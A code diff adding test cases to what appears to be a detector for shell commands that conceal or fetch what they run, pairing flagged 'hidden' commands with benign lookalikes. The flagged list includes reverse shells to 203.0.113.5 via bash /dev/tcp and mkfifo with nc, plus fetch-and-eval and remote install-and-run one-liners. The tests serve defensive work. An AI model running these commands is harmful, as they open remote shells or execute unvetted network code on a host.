@@ -27,6 +27,16 @@ const HIDDEN = [
   'echo x | xargs -I{} sh -c "$CMD"',
   "openssl enc -d -base64 <<< aGk= | sh",
   "python3 -c 'import base64; exec(base64.b64decode(1))'",
+  "bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
+  "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 443 > /tmp/f",
+  "node -e 'fetch(1).then(r => r.text()).then(eval)'",
+  "perl -MLWP::Simple -e 'eval get(1)'",
+  "pip install https://example.com/x.tar.gz && x",
+  "npx --yes some-package",
+  "npm exec -y some-package",
+  "pipx run git+https://example.com/x.git",
+  "deno run -A https://example.com/x.ts",
+  "go run example.com/x@latest",
 ];
 
 /** What runs is in the text, or in the image. */
@@ -52,6 +62,13 @@ const SHOWN = [
   "HOST=db; PORT=5432; psql -h $HOST:$PORT",
   "read -r answer <&3 && [[ $answer == *' 200 '* ]] && test $answer = x",
   "date; echo $((1+2)) # eval $X",
+  "until (echo > /dev/tcp/postgres/5432) 2> /dev/null; do sleep 1; done",
+  "exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3",
+  "npx prisma migrate deploy && exec npm start",
+  "npm run start --workspace server",
+  "pip install --no-deps /wheels/app.whl",
+  "perl -e 'eval { die }; print 1'",
+  "yarn exec tsc && deno run -A main.ts && go run ./cmd/server",
 ];
 
 it.each(HIDDEN)("is hidden: %s", (script) => {
